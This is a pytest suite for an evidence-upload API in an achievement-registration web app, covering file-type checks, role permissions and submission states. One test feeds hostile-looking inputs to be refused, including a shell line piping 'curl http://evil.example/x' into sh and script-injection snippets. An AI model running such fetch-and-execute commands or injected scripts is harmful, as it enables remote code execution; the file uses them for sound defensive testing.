"""Evidence uploads: what is accepted, who may upload and read, and when."""
import io

import pytest
from achievement_helpers import error_fields, flashes

from tests.factories import JPEG, PDF, PNG


def upload(client, record_id, token, content=PDF, filename="鉴定证书.pdf",
           kind="evaluation_proof"):
    data = {}
    if kind is not None:
        data["kind"] = kind
    if content is not None:
        data["file"] = (io.BytesIO(content), filename)
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return client.post(f"/api/v1/achievements/{record_id}/files", data=data, headers=headers)


def test_a_pdf_is_accepted_and_readable_by_owner_and_bureau_only(market, client):
    owner = market.institute()
    token = market.token(owner)
    record_id = market.achievement(owner, evidence=())

    response = upload(client, record_id, token)

    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert (body["kind"], body["name"], body["content_type"], body["size"]) == (
        "evaluation_proof", "鉴定证书.pdf", "application/pdf", len(PDF))
    assert body["url"] == f"/files/{body['id']}"
    assert market.history(record_id)[-1][0] == "attach"
    assert market.history(record_id)[-1][4] == "鉴定证书.pdf"
    listed = client.get(f"/api/v1/achievements/{record_id}/files",
                        headers={"Authorization": f"Bearer {token}"}).get_json()["items"]
    assert [f["id"] for f in listed] == [body["id"]]

    for user, status in ((owner, 200), (market.member_of(owner.organization_id), 200),
                         (market.bureau(), 200), (market.user("institute"), 404),
                         (market.user("enterprise"), 404)):
        reader = market.page_client(user)
        got = reader.get(body["url"])
        assert got.status_code == status, user.role
        if status == 200:
            assert got.data == PDF
            assert got.headers["Content-Type"] == "application/pdf"


@pytest.mark.parametrize(("content", "filename"), [
    (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "report.pdf"),
    (b"<html><script>alert(1)</script></html>", "report.pdf"),
    (b"MZ\x90\x00\x03\x00\x00\x00", "report.pdf"),
    (b"%PDF-1.4\n1 0 obj << >> endobj\n", "truncated.pdf"),
    (PNG + b"<script>alert(1)</script>", "photo.png"),
    (b"", "empty.pdf"),
])
def test_files_that_are_not_what_they_claim_are_refused(market, client, content, filename):
    owner = market.institute()
    record_id = market.achievement(owner, evidence=())
    response = upload(client, record_id, market.token(owner), content, filename)
    assert response.status_code == 422
    assert set(error_fields(response)) == {"file"}
    assert market.history(record_id)[-1][0] == "create"


def test_png_and_jpeg_are_accepted(market, client):
    owner = market.institute()
    token = market.token(owner)
    record_id = market.achievement(owner, evidence=())
    assert upload(client, record_id, token, PNG, "证书.png").get_json()[
        "content_type"] == "image/png"
    assert upload(client, record_id, token, JPEG, "证书.jpg").get_json()[
        "content_type"] == "image/jpeg"


@pytest.mark.parametrize("kind", ["contract", "", None, "EVALUATION_PROOF"])
def test_a_bad_kind_is_refused(market, client, kind):
    owner = market.institute()
    record_id = market.achievement(owner, evidence=())
    response = upload(client, record_id, market.token(owner), kind=kind)
    assert response.status_code == 422
    assert set(error_fields(response)) == {"kind"}


def test_an_upload_without_a_file_is_refused(market, client):
    owner = market.institute()
    record_id = market.achievement(owner, evidence=())
    response = upload(client, record_id, market.token(owner), content=None)
    assert response.status_code == 422
    assert set(error_fields(response)) == {"file"}


@pytest.mark.parametrize(("role", "status"), [
    ("institute", 404), ("enterprise", 404), ("broker", 404), ("bureau", 403),
    ("admin", 403), ("visitor", 401)])
def test_only_the_owner_uploads(market, client, role, status):
    record_id = market.achievement(market.institute(), evidence=())
    token = None if role == "visitor" else market.token(market.user(role))
    response = upload(client, record_id, token)
    assert response.status_code == status
    listing = client.get(f"/api/v1/achievements/{record_id}/files",
                         headers={"Authorization": f"Bearer {token}"} if token else {})
    assert listing.status_code == {"bureau": 200, "admin": 200}.get(role, status)


def test_a_colleague_of_the_owner_uploads_too(market, client):
    owner = market.institute()
    record_id = market.achievement(owner, evidence=())
    colleague = market.member_of(owner.organization_id)
    assert upload(client, record_id, market.token(colleague)).status_code == 201


@pytest.mark.parametrize(("state", "status"), [
    ("submitted", 409), ("registered", 409), ("rejected", 409), ("revoked", 409),
    ("returned", 201)])
def test_uploads_after_submission_are_refused(market, client, state, status):
    owner = market.institute()
    record_id = market.achievement(owner, state)
    response = upload(client, record_id, market.token(owner), kind="user_certificate")
    assert response.status_code == status
    if status == 409:
        assert response.get_json()["error"]["code"] == "conflict"


def test_the_page_upload_flashes_the_outcome(market):
    owner = market.institute()
    record_id = market.achievement(owner, evidence=())
    client = market.page_client(owner)

    good = client.post(f"/achievements/{record_id}/files", data={
        "kind": "paper", "file": (io.BytesIO(PDF), "论文.pdf")})
    assert good.status_code == 302
    assert [c for c, _ in flashes(client)] == ["success"]

    bad = client.post(f"/achievements/{record_id}/files", data={
        "kind": "paper", "file": (io.BytesIO(b"#!/bin/sh\n"), "论文.pdf")})
    assert bad.status_code == 302
    assert [c for c, _ in flashes(client)] == ["danger"]
    assert [h[0] for h in market.history(record_id)] == ["create", "attach"]

    stranger = market.page_client(market.user("institute"))
    response = stranger.post(f"/achievements/{record_id}/files", data={
        "kind": "paper", "file": (io.BytesIO(PDF), "论文.pdf")})
    assert response.status_code == 404  # as every other page answers a stranger's id
    assert [h[0] for h in market.history(record_id)] == ["create", "attach"]
